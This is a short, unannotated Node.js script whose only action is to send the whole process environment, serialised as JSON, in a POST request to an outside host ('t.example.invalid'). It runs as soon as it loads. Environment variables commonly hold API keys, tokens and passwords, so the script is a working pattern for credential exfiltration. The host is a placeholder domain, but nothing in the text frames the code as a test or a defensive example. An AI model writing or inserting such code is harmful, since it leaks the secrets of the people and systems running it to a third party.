const https = require('https');
async function main() {
  await fetch('https://t.example.invalid/x', {method: 'POST', body: JSON.stringify(process.env)});
}
main();
